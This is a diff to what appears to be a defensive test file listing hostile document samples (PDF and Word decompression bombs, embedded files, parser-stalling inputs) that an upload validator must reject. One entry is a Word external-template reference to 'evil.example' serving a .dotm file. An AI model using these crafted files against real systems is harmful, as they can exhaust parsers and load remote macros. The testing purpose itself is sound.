@@ -128,6 +128,7 @@ HOSTILE: dict[str, tuple[bytes, str]] = {
     "a PDF with a file in it": (pdf_with(b"9 0 obj\n<</Type /EmbeddedFile>>\nendobj"), "another file"),
     "a PDF that unpacks to 200 MB": (pdf_with(packed(b" " * 200_000_000)), "unpacks to far more"),
     "a PDF packed otherwise": (pdf_with(packed(b"").replace(b"x\xda", b"??")), "cannot be read"),
+    "a PDF that keeps its reader busy": (pdf_with(packed(b"#41" * 3_000_000)), "cannot be read"),
     "a PDF with a password": (pdf_with(b"trailer <</Encrypt 9 0 R>>"), "password"),
     "half a PDF": (a_pdf()[: len(a_pdf()) // 2], "damaged"),
     "a PDF that is an archive too": (a_pdf() + a_docx(), "damaged|two kinds"),
@@ -155,6 +156,10 @@ HOSTILE: dict[str, tuple[bytes, str]] = {
             word___rels__settings_dot_xml_dot_rels='<Relationship Id="1" Type="http://x/attachedTemplate" '
             'Target="https://evil.example/a.dotm" TargetMode="External"/>'
         ),
+        "from elsewhere",
+    ),
+    "a Word document that keeps its reader busy": (
+        a_docx(word___rels__a_dot_rels="<" * 1_500_000 + 'x/frame" Target="https://evil.example">'),
         "from elsewhere",
     ),
     "a bomb": (a_docx(word__media__image1_dot_bin=b"\x00" * 60_000_000), "unpacks to far more"),
